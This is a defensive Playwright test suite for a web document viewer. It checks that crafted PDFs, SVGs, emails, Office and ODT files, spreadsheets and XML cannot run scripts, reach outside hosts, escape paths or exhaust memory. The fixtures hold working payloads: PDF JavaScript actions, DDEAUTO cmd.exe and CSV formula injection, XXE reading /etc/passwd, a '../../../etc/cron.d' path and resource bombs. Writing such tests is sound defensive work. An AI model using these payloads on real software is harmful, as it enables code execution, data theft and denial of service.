import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launchChromium } from '../../../scripts/browser.mjs';
import { makeZip, type ZipEntry } from '../src/engines/testing/make-zip.ts';
import { docx, odt, relations, wp, xlsx } from '../src/engines/testing/office-samples.ts';
import { startTownPage, type TownPage } from './town-page.ts';

type File = Uint8Array | Promise<Uint8Array>;

const taken = 'globalThis.taken = 1';
let town: TownPage;
let foreign: Server;
/** A host that is not the town's. It allows everybody, and nobody may ask it. */
let elsewhere: string;
let asked: string[];
let browser: Browser;
let context: BrowserContext;
let page: Page;
let problems: string[];
let isVisiting = false;

before(async () => {
  foreign = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('foreign');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  elsewhere = `http://localhost:${(foreign.address() as AddressInfo).port}`;
  [town, browser] = await Promise.all([
    startTownPage(['document-list', 'document-compare', 'read-confirmation']),
    launchChromium(),
  ]);
  context = await browser.newContext({ viewport: { width: 1000, height: 900 } });
});
after(async () => {
  await browser.close();
  foreign.close();
  await town.close();
});
beforeEach(async () => {
  asked = [];
  problems = [];
  page = await context.newPage();
  page.on('console', (message) => {
    if (message.type() !== 'info') problems.push(message.text());
  });
  page.on('pageerror', (error) => problems.push(String(error)));
  page.on('dialog', (dialog) => {
    problems.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (!isVisiting) problems.push(`navigation ${frame.url()}`);
  });
  page.on('popup', () => problems.push('popup'));
  page.on('download', () => problems.push('download'));
  page.on('request', (request) => {
    if (!/^(?:blob|data):/.test(request.url()) && !request.url().startsWith(town.origin))
      problems.push(`request ${request.url()}`);
  });
});
afterEach(() => page.close());

/** Prints a page whose body an author wrote, and waits for the elements. */
async function visit(body = '<tt-document-viewer></tt-document-viewer>'): Promise<void> {
  town.answers.set('/author', (_, response) => {
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    response.end(
      `<!doctype html><html lang="en"><head><title>Town</title><link rel="icon" href="data:,"></head><body>${body}` +
        '<script type="module" src="/bundle/page.js"></script></body></html>',
    );
  });
  isVisiting = true;
  await page.goto(`${town.origin}/author`);
  await page.waitForFunction(() => customElements.get('tt-document-viewer'));
  isVisiting = false;
}

/** What a reader is left with: the text that is shown, or the sentences and the ways out. */
async function opened(address: string): Promise<string> {
  await page.evaluate((src) => document.querySelector('tt-document-viewer')?.open(src), address);
  const handle = await page.waitForFunction(
    () => {
      const viewer = document.querySelector('tt-document-viewer')!;
      const inside = viewer.shadowRoot!;
      const shown = (selector: string): string =>
        inside.querySelector<HTMLElement>(selector)?.innerText ?? '';
      if (viewer.state === 'failed')
        return `failed: ${shown('.happened')}. ${shown('.help')} [${shown('.ways').replaceAll('\n', ', ')}]`;
      const text = shown('.document');
      const isRead =
        text
          .replace(/(?:Page|Sheet|Slide) \d+ of \d+|Next (?:page|sheet|slide): \d+/g, '')
          .trim() !== '' || inside.querySelector('.reading [data-page] img');
      const isDrawn = inside.querySelector('[data-page="1"] :is(.text, .page-note)');
      return viewer.state === 'ready' && (isDrawn ?? isRead) && `shown: ${text}`;
    },
    undefined,
    { timeout: 15_000 },
  );
  return (await handle.jsonValue()) as string;
}

/** Opens a file under its name, and after it a harmless one: the page has to go on working. */
async function show(name: string, file: File): Promise<string> {
  await visit();
  const path = `/documents/${encodeURIComponent(name)}`;
  town.documents.set(path, await file);
  const result = await opened(path);
  town.documents.delete(path);
  return result;
}

/** @param expected what the browser says of what it did not do */
async function nothingHappened(expected?: RegExp): Promise<void> {
  assert.match(await opened('/documents/note.txt'), /gęślą jaźń/, 'the next document');
  assert.equal(await page.evaluate(() => 'taken' in globalThis), false, 'something ran');
  assert.deepEqual(
    problems.filter((problem) => !expected?.test(problem)),
    [],
  );
  assert.deepEqual(asked, []);
}

const sentences = {
  broken: /^failed: This file is damaged and cannot be shown\. Download it .*\[Download\]$/,
  empty: /^failed: This file is empty\. Ask the sender/,
  large: /^failed: This file is too large to be shown here\. Download it .*\[Download\]$/,
  pixels:
    /^failed: This picture has too many pixels to be shown here\. It measures [\d,]+ × [\d,]+ pixels; .* Download it .*\[Download\]$/,
  unpacked:
    /^failed: This file grows too large when it is unpacked\. .* up to 1\.5 GB can be opened here\. Download it .*\[Download\]$/,
  misnamed: /^failed: The file is named as PDF, but its content is HTML\. .*\[Download\]$/,
  unsupported: /^failed: This type of file cannot be shown here\. Download it .*\[Download\]$/,
  signIn: /^failed: You need to sign in .* Sign in and try again\. \[Try again, Download\]$/,
  forbidden:
    /^failed: You do not have access .* for access, then try again\. \[Try again, Download\]$/,
  missing: /^failed: There is no document at this address\. .*\[Try again\]$/,
  server: /^failed: The server could not send .*\[Try again, Download\]$/,
  refused:
    /^failed: This page could not get the document from the other website\. That website may not allow it, .*\[Try again, Download\]$/,
  network: /^failed: The document could not be fetched: .*\[Try again, Download\]$/,
} as const;

/** A PDF of these objects; the first is the catalogue. */
function pdf(...objects: string[]): Uint8Array {
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) file += `${String(offset).padStart(10, '0')} 00000 n \n`;
  file += `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}
const stream = (text: string, entries = ''): string =>
  `<<${entries}/Length ${text.length}>>\nstream\n${text}\nendstream`;

/** A message of one part. */
const message = (type: string, body: string, headers: readonly string[] = []): Uint8Array =>
  Buffer.from(
    [
      'From: a@example.org',
      'Subject: List',
      ...headers,
      'MIME-Version: 1.0',
      `Content-Type: ${type}`,
      '',
      body,
    ].join('\r\n'),
  );

const zipOf = (names: readonly string[], content: ZipEntry['content'] = 'x'): File =>
  makeZip(names.map((name) => ({ name, content, stored: true })));

/** A PNG that states a size and holds nothing. */
function png(width: number, height: number): Uint8Array {
  const bytes = Buffer.alloc(64);
  bytes.write('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1');
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}

describe('files that try to run, to load or to lead away', () => {
  const files: readonly [name: string, make: () => File, expected: RegExp, never?: RegExp][] = [
    [
      'actions.pdf',
      () =>
        pdf(
          `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${elsewhere}/open)>>/AA<</WC<</S/JavaScript/JS(${taken})>>>>` +
            '/AcroForm<</Fields[5 0 R 6 0 R]/XFA 7 0 R/NeedAppearances true>>/Names<</EmbeddedFiles<</Names[(a) 8 0 R]>>>>>>',
          '<</Type/Pages/Count 1/Kids[3 0 R]>>',
          `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Annots[5 0 R 6 0 R]/AA<</O<</S/SubmitForm/F(${elsewhere}/send)>>>>/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>`,
          stream(
            'BT /F 20 Tf 50 200 Td (Harmless) Tj ET',
            `/FFilter/FlateDecode/F<</FS/URL/F(${elsewhere}/stream)>>`,
          ).replace(/\/FFilter.*?>>/, ''),
          `<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(send)/Rect[0 0 90 40]/A<</S/SubmitForm/F(${elsewhere}/send)/Flags 4>>>>`,
          `<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(x)/Rect[100 0 200 40]/AA<</F<</S/JavaScript/JS(${taken})>>/K<</S/JavaScript/JS(${taken})>>>>>>`,
          stream(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform><event activity="initialize"><script contentType="application/x-javascript">${taken}</script></event></subform></template></xdp:xdp>`,
          ),
          '<</Type/Filespec/F(../../../etc/cron.d/x)/EF<</F 9 0 R>>>>',
          stream('root', '/Type/EmbeddedFile'),
        ),
      /^shown: .*Harmless/s,
    ],
    [
      'drawing.svg',
      () =>
        Buffer.from(
          `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/a.css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 99 99" onload="${taken}">` +
            `<style>@import url(${elsewhere}/b.css); @font-face { font-family: x; src: url(${elsewhere}/f.woff) } * { fill: url(${elsewhere}/c.svg#a) }</style>` +
            `<script href="${elsewhere}/d.js"/><script>${taken}</script><image href="${elsewhere}/e.png" width="9" height="9"/><use xlink:href="${elsewhere}/g.svg#a"/>` +
            `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="${taken}"><iframe src="${elsewhere}/h"/><form action="${elsewhere}/i"><input autofocus="" onfocus="${taken}"/></form></body></foreignObject>` +
            `<a href="javascript:${taken}"><set attributeName="href" to="${elsewhere}"/><text>x</text></a></svg>`,
        ),
      /^shown: /,
    ],
    [
      'list.eml',
      () =>
        message(
          'text/html; charset=utf-8',
          `<html><head><base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><link rel="stylesheet" href="${elsewhere}/a.css">` +
            `<style>@import "${elsewhere}/b.css"; body { background: url(${elsewhere}/c.png) }</style><script>${taken}</script></head>` +
            `<body background="${elsewhere}/d.png" onload="${taken}"><p onclick="${taken}" style="background:url('${elsewhere}/e.png')">Body</p>` +
            `<form action="${elsewhere}/f"><input name="x"><button formaction="javascript:${taken}">Send</button></form><iframe src="${elsewhere}/g" srcdoc="&lt;script&gt;top.taken=1&lt;/script&gt;"></iframe>` +
            `<img src="${elsewhere}/h.png" srcset="${elsewhere}/i.png 2x" onerror="${taken}"><img src="cid:loop"><a href="javascript:${taken}">a</a><a href=" java&#9;script:${taken}">b</a><a href="data:text/html,x">c</a><a href="relative">d</a>` +
            `<a href="vbscript:x">v</a><a href="blob:${town.origin}/x">e</a><object data="${elsewhere}/j"></object><video src="${elsewhere}/k" poster="${elsewhere}/l"></video><svg><image href="${elsewhere}/m"/></svg><a href="https://example.org/" ping="${elsewhere}/n" download>only link</a></body></html>`,
          ['Content-ID: <loop>'],
        ),
      /^shown: .*Body.*only link/s,
    ],
    [
      'letter.docm',
      () =>
        docx(
          wp('Letter') +
            `<w:altChunk r:id="rChunk"/><w:p><w:hyperlink r:id="rScript"><w:r><w:t>script</w:t></w:r></w:hyperlink><w:hyperlink r:id="rData"><w:r><w:t> data</w:t></w:r></w:hyperlink></w:p>` +
            `<w:p><w:r><w:drawing><a:blip r:link="rRemote" r:embed="rRemote"/></w:drawing></w:r></w:p>` +
            [
              'HYPERLINK "javascript:x"',
              'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
              `INCLUDETEXT "${elsewhere}/x"`,
            ]
              .map(
                (code) =>
                  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code.replaceAll('"', '&quot;')}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
              )
              .join(''),
          [
            {
              name: 'word/settings.xml',
              content:
                '<w:settings xmlns:w="urn:w" xmlns:r="urn:r"><w:attachedTemplate r:id="rId1"/></w:settings>',
            },
            {
              name: 'word/_rels/settings.xml.rels',
              content: relations([['rId1', 'attachedTemplate', `${elsewhere}/evil.dotm`, true]]),
            },
            { name: 'word/chunk.html', content: `<script>${taken}</script>` },
            { name: 'word/vbaProject.bin', content: 'x' },
          ],
        ),
      /^shown: .*Letter.*script.*result.*result.*result/s,
      /cmd\.exe|INCLUDETEXT/,
    ],
    [
      'letter.odt',
      () =>
        odt(
          `<text:p>Vēstule</text:p><office:scripts xmlns:script="urn:script"><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/><office:script>${taken}</office:script></office:scripts>` +
            `<text:p><text:a xlink:href="vnd.sun.star.script:x">makro</text:a><text:a xlink:href="data:text/html,x"> dati</text:a><draw:frame><draw:image xlink:href="${elsewhere}/a.png"/></draw:frame></text:p>` +
            `<text:section><text:section-source xlink:href="${elsewhere}/b.odt"/><text:p>sadaļa</text:p></text:section><draw:frame><draw:object xlink:href="${elsewhere}/c"/><draw:plugin xlink:href="${elsewhere}/d"/><draw:floating-frame xlink:href="${elsewhere}/e"/></draw:frame>`,
          [{ name: 'Basic/Standard/Module1.xml', content: `<x>${taken}</x>` }],
        ),
      /^shown: .*Vēstule.*makro/s,
    ],
    [
      'sheet.xlsx',
      () =>
        xlsx(
          '<worksheet xmlns="urn:s" xmlns:r="urn:r"><sheetData><row><c t="str"><f>cmd|\'/c calc\'!A0</f><v>value</v></c><c t="inlineStr"><is><t>=HYPERLINK("javascript:x")</t></is></c>' +
            `<c t="str"><f>WEBSERVICE("${elsewhere}/a")</f><v>&lt;img src=x onerror=${taken}&gt;</v></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="rX" location="x"/></hyperlinks></worksheet>`,
        ),
      /^shown: .*value.*=HYPERLINK\("javascript:x"\).*<img src=x onerror/s,
      /calc|WEBSERVICE/,
    ],
    [
      'table.csv',
      () => Buffer.from(`Name;Sum\n=cmd|'/c calc'!A0;@SUM(1)\n<script>${taken}</script>;+1\n`),
      /^shown: .*=cmd\|'\/c calc'!A0.*@SUM\(1\).*<script>/s,
    ],
    [
      'page.html',
      () =>
        Buffer.from(
          `<!doctype html><script>${taken}</script><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
        ),
      /^shown: .*<script>/s,
    ],
    [
      'styled.xml',
      () =>
        Buffer.from(
          `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${elsewhere}/a.xsl"?><a xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:h="http://www.w3.org/1999/xhtml"><xi:include href="${elsewhere}/b.xml"/><h:script>${taken}</h:script><h:img src="${elsewhere}/c" onerror="${taken}"/></a>`,
        ),
      /^shown: .*include.*script/s,
    ],
    [
      'entities.xml',
      () =>
        Buffer.from(
          `<?xml version="1.0"?><!DOCTYPE a SYSTEM "${elsewhere}/a.dtd" [<!ENTITY b SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "${elsewhere}/p"> %p;]><a>&b;</a>`,
        ),
      /^shown: .*&b;/s,
      /root:/,
    ],
  ];
  for (const [name, make, expected, never] of files) {
    it(name, async () => {
      const result = await show(name, make());
      assert.match(result, expected);
      if (never) assert.doesNotMatch(result, never);
      const links = await page.evaluate(() => {
        const inside = document.querySelector('tt-document-viewer')!.shadowRoot!;
        return [...inside.querySelectorAll<HTMLAnchorElement>('.document a:not([download])')].map(
          ({ href }) => href,
        );
      });
      for (const link of links) assert.match(link, /^https:\/\/example\.org\//);
      await nothingHappened();
    });
  }

  it('a file inside a PDF is a name, never a path', async () => {
    await show('attached.pdf', files[0]![1]());
    const name = await page.evaluate(async () => {
      const viewer = document.querySelector('tt-document-viewer')!;
      await viewer.openAttachment(0);
      await viewer.updateComplete;
      return (
        viewer.shadowRoot!.querySelector('.ways a')?.getAttribute('download') ??
        viewer.shadowRoot!.querySelector('.shelf')?.textContent
      );
    });
    assert.doesNotMatch(name ?? '', /\.\.|\/etc/);
    await nothingHappened();
  });
});

describe('files that were made to fill memory or time', () => {
  const repeat = (text: string, size: number): Uint8Array => Buffer.alloc(size, text);
  const files: readonly [what: string, name: string, make: () => File, expected: RegExp][] = [
    ['a PNG of gigantic size', 'a.png', () => png(60_000, 60_000), sentences.pixels],
    ['a PNG of one endless row', 'a.png', () => png(2 ** 31 - 1, 1), sentences.pixels],
    [
      'a GIF of gigantic size',
      'a.gif',
      () =>
        Buffer.from(
          'GIF89a\xff\xff\xff\xff\0\0\0,\0\0\0\0\xff\xff\xff\xff\0'.padEnd(64, '\0'),
          'latin1',
        ),
      sentences.pixels,
    ],
    [
      'a WebP of gigantic size',
      'a.webp',
      () =>
        Buffer.from(
          'RIFF\x40\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0\xff\xff\xff\xff\xff\xff'.padEnd(72, '\0'),
          'latin1',
        ),
      sentences.pixels,
    ],
    [
      'a drawing that draws itself a billion times',
      'a.svg',
      () => {
        const levels = Array.from(
          { length: 10 },
          (_, n) => `<g id="l${n + 1}">${`<use href="#l${n}"/>`.repeat(10)}</g>`,
        ).join('');
        return Buffer.from(
          `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><rect id="l0" width="9" height="9"/>${levels}</defs><use href="#l10"/></svg>`,
        );
      },
      sentences.large,
    ],
    [
      'a drawing of astronomic width',
      'a.svg',
      () =>
        Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="99999999999" height="1"><rect width="9" height="1"/></svg>',
        ),
      /^shown|too large/,
    ],
    [
      '100 MB of text on one line',
      'a.txt',
      () => repeat('x', 100_000_000),
      /^shown: [\s\S]*Only the beginning/,
    ],
    ['a CSV file of millions of columns', 'a.csv', () => repeat(';', 60_000_000), /^shown/],
    [
      'a CSV file of a million named columns',
      'a.csv',
      () => repeat('a;', 2_000_000),
      /^shown: [\s\S]*columns/,
    ],
    [
      'an XML file of great depth',
      'a.xml',
      () => Buffer.from('<?xml version="1.0"?>' + '<a>'.repeat(100_000)),
      /^shown/,
    ],
    [
      'a message of a hundred thousand parts',
      'a.eml',
      () =>
        message(
          'multipart/mixed; boundary=A',
          '--A\r\nContent-Disposition: attachment; filename=a\r\n\r\nx\r\n'.repeat(100_000),
        ),
      sentences.large,
    ],
    [
      'a message of many pictures that name each other',
      'a.eml',
      () =>
        message(
          'multipart/related; boundary=A',
          `--A\r\nContent-Type: text/html\r\n\r\n${Array.from({ length: 40_000 }, (_, n) => `<img src="cid:x${n}" alt="a">`).join('')}\r\n${Array.from({ length: 4000 }, (_, n) => `--A\r\nContent-Type: image/png\r\nContent-ID: <y${n}>\r\n\r\nx\r\n`).join('')}`,
        ),
      /^shown/,
    ],
    [
      'an archive of a hundred thousand entries',
      'a.zip',
      () => zipOf(Array.from({ length: 60_000 }, (_, n) => `${n}`)),
      sentences.large,
    ],
    [
      'an archive that states gigantic sizes',
      'a.zip',
      () =>
        makeZip(
          Array.from({ length: 3 }, (_, n) => ({
            name: `${n}`,
            content: 'x',
            statedSize: 0xfffffff0,
          })),
        ),
      sentences.unpacked,
    ],
  ];
  for (const [what, name, make, expected] of files) {
    it(what, async () => {
      assert.match((await show(name, make())).slice(0, 2_000_000), expected);
      await nothingHappened();
    });
  }
});

describe('servers that do not do what they should', () => {
  type Answer = Parameters<TownPage['answers']['set']>[1];
  const small = pdf(
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>',
  );
  const sends =
    (status: number, headers: Record<string, string>, body: Uint8Array | string = ''): Answer =>
    (_, response) =>
      void response.writeHead(status, headers).end(body);
  const gigabytes =
    (headers: Record<string, string>, status = 200): Answer =>
    (_, response) => {
      response.writeHead(status, headers);
      response.write(small);
    };
  const answers: readonly [
    what: string,
    name: string,
    answer: Answer,
    expected: RegExp,
    said?: RegExp,
  ][] = [
    ['401', 'a.pdf', sends(401, { 'WWW-Authenticate': 'Bearer' }), sentences.signIn, /401/],
    ['403', 'a.docx', sends(403, {}, '<h1>No</h1>'), sentences.forbidden, /403/],
    ['404', 'a.txt', sends(404, {}), sentences.missing, /404/],
    ['500', 'a.pdf', sends(500, {}), sentences.server, /500/],
    ['nothing', 'a.pdf', sends(200, { 'Content-Type': 'application/pdf' }), sentences.empty],
    ['nothing under another name', 'a.docx', sends(200, {}), sentences.empty],
    [
      'another type than the bytes are of',
      'a.pdf',
      sends(200, { 'Content-Type': 'image/png' }, small),
      /^shown/,
    ],
    [
      'a sign-in page in place of a document',
      'a.pdf',
      sends(200, { 'Content-Type': 'application/pdf' }, '<!doctype html><form>'),
      sentences.misnamed,
    ],
    ['no ranges', 'a.pdf', sends(200, { 'Content-Type': 'application/pdf' }, small), /^shown/],
    [
      '2 GB without ranges',
      'a.pdf',
      gigabytes({ 'Content-Length': '2147483648' }),
      sentences.large,
    ],
    [
      '2 GB of another format',
      'a.docx',
      gigabytes({ 'Content-Length': '2147483648' }),
      sentences.large,
    ],
    [
      '2 GB in ranges',
      'a.pdf',
      sends(
        206,
        { 'Content-Range': `bytes 0-262143/2147483648` },
        Buffer.concat([small, Buffer.alloc(262_144 - small.length)]),
      ),
      sentences.large,
    ],
    [
      'more than the range that was asked for, without end',
      'a.pdf',
      (_, response) => {
        response.writeHead(206, { 'Content-Range': 'bytes 0-262143/300000' });
        const more = (): void => {
          if (response.destroyed) return;
          if (response.write(Buffer.alloc(1_000_000, '%PDF-1.7 '))) setImmediate(more);
          else response.once('drain', more);
        };
        more();
      },
      // Some browsers see for themselves that it is not what they asked for.
      /^failed: .*(?:too large|could not be fetched).*Download\]$/,
      /ERR_/,
    ],
    [
      'parts that are shorter than they say',
      'a.pdf',
      (request, response) => {
        const isFirst = /bytes=0-/.test(request.headers.range ?? '');
        response
          .writeHead(206, { 'Content-Range': 'bytes 0-1/600000' })
          .end(isFirst ? Buffer.concat([small, Buffer.alloc(262_144 - small.length)]) : 'x');
      },
      sentences.broken,
      // Of the worker, about what it was still at.
      /Worker was terminated/,
    ],
    [
      'a connection that breaks',
      'a.docx',
      (_, response) => {
        response.writeHead(200, { 'Content-Length': '1000' });
        response.write('PK\x03\x04', () => response.destroy());
      },
      sentences.network,
      /ERR_/,
    ],
    [
      'a way to another host',
      'a.pdf',
      (_, response) => void response.writeHead(302, { Location: `${elsewhere}/a.pdf` }).end(),
      sentences.network,
      /Content Security Policy|Fetch API|request http:\/\/localhost/,
    ],
  ];
  for (const [what, name, answer, expected, said] of answers) {
    it(what, async () => {
      await visit();
      town.answers.set(`/answers/${name}`, answer);
      assert.match(await opened(`/answers/${name}`), expected);
      await nothingHappened(said);
    });
  }

  it('a host that the policy forbids is not asked', async () => {
    await visit();
    assert.match(await opened(`${elsewhere}/a.pdf`), sentences.refused);
    await nothingHappened(/Content Security Policy|Fetch API|request http:\/\/localhost/);
  });

  for (const [what, begin] of [
    ['says nothing', () => undefined],
    [
      'stops in the middle',
      (response: { write(bytes: Uint8Array): void }) => response.write(small),
    ],
  ] as const) {
    it(`a server that ${what} is given up in the end`, async () => {
      await page.clock.install();
      await visit();
      town.answers.set('/answers/slow.pdf', (_, response) => void begin(response));
      const result = page.evaluate(async () => {
        const viewer = document.querySelector('tt-document-viewer')!;
        await viewer.open('/answers/slow.pdf');
        return viewer.shadowRoot!.querySelector('.happened')?.textContent;
      });
      await page.waitForTimeout(500);
      assert.equal(
        await page.evaluate(() => document.querySelector('tt-document-viewer')?.state),
        'loading',
      );
      await page.clock.fastForward(121_000);
      assert.match((await result) ?? '', /could not be fetched/);
    });
  }

  it('a file of the page that no memory holds is said to be too large', async () => {
    await visit();
    const sentence = await page.evaluate(async () => {
      const viewer = document.querySelector('tt-document-viewer')!;
      const file = new File(['x'], 'a.pdf');
      Object.defineProperty(file, 'size', { value: 2 ** 31 });
      await viewer.open(file);
      return viewer.shadowRoot!.querySelector('.happened')?.textContent;
    });
    assert.match(sentence ?? '', /too large/);
    await nothingHappened();
  });
});

describe('authors who try to break out of their text', () => {
  const good = '<a href="/documents/declaration.pdf">Declaration</a>';

  it('names that take the place of globals change nothing', async () => {
    const names = [
      'baseURI',
      'hidden',
      'visibilityState',
      'pdfjsWorker',
      'location',
      'event',
      'document',
      'URL',
      'fetch',
      '__proto__',
      'constructor',
      'forms',
      'fonts',
    ];
    await visit(
      names.map((name) => `<img id="${name}" name="${name}" alt=""><a id="${name}"></a>`).join('') +
        `<form id="pdfjsWorker"><input name="WorkerMessageHandler"></form>` +
        `<form><input name="requestSubmit"><input name="getRootNode"><input name="addEventListener"><tt-document-viewer name="doc" id="viewer">${good}</tt-document-viewer></form>`,
    );
    await page.waitForSelector('tt-document-viewer:state(ready)');
    await nothingHappened();
  });

  it('links that lead to no document are told, and lead nowhere', async () => {
    for (const href of [
      `javascript:${taken}`,
      'data:text/html,<script>1</script>',
      'http://[',
      'file:///etc/passwd',
      '//',
      'about:blank',
    ]) {
      await visit(
        `<tt-document-viewer src="${href.replaceAll('"', '')}"><a href="${href}">x</a></tt-document-viewer>`,
      );
      await page.waitForSelector('tt-document-viewer:state(failed)');
      const ways = await page.evaluate(() =>
        [...document.querySelector('tt-document-viewer')!.shadowRoot!.querySelectorAll('a')].map(
          (link) => link.protocol,
        ),
      );
      assert.ok(
        ways.every((protocol) => /^https?:$/.test(protocol)),
        `${href}: ${ways.join()}`,
      );
    }
    await nothingHappened(/Content Security Policy/);
  });

  it('a list goes on past links that are none, and offers to save only files', async () => {
    const hrefs = [
      'http://[',
      `javascript:${taken}`,
      'data:text/html,x',
      '/documents/declaration.pdf',
    ];
    await visit(
      `<ul><li id="outer">Files <tt-document-list for="viewer"><ul>${hrefs.map((href) => `<li><a href="${href}" data-size="1e999" data-signatures="1e999" data-type="&lt;img src=x&gt;">&lt;b&gt;x\u202e</a></li>`).join('')}</ul>` +
        `<p><svg><a href="/documents/declaration.pdf"><text>x</text></a></svg></p><p>${good}</p></tt-document-list></li></ul>` +
        '<form id="viewer"><input name="goToDocument"></form><tt-document-viewer></tt-document-viewer>',
    );
    await page.waitForSelector('tt-document-list [data-save]');
    const saved = await page
      .locator('[data-save]')
      .evaluateAll((links) =>
        (links as HTMLAnchorElement[]).map(({ pathname, protocol }) => protocol + pathname),
      );
    assert.deepEqual(saved, ['http:/documents/declaration.pdf', 'http:/documents/declaration.pdf']);
    assert.equal(await page.locator('#outer > [data-save], #outer > [data-about]').count(), 0);
    assert.equal(await page.locator('tt-document-list img').count(), 0);
    assert.doesNotMatch(await page.locator('tt-document-list').innerText(), /∞|Infinity|NaN/);
    await nothingHappened();
  });

  it('a comparison and a confirmation with wrong partners stay quiet', async () => {
    await visit(
      `<tt-document-compare><a href="javascript:${taken}">old</a><a href="data:text/html,x">&lt;img src=x&gt;</a></tt-document-compare>` +
        '<form id="f"><input name="localName"><input name="trackReading"></form><tt-read-confirmation for="f"><label><input type="checkbox"> Read</label></tt-read-confirmation>' +
        `<tt-read-confirmation for="&quot;]"><input data-sha256 type="hidden"></tt-read-confirmation>`,
    );
    await page.waitForFunction(
      () =>
        document
          .querySelector('tt-document-compare')!
          .shadowRoot!.querySelectorAll('tt-document-viewer:state(failed)').length === 2,
    );
    assert.match(
      (await page.locator('tt-document-compare [role=status]').first().textContent()) ?? '',
      /cannot|could not/i,
    );
    assert.equal(await page.locator('tt-document-compare img').count(), 0);
    assert.deepEqual(problems, []);
    assert.equal(await page.evaluate(() => 'taken' in globalThis), false);
  });
});
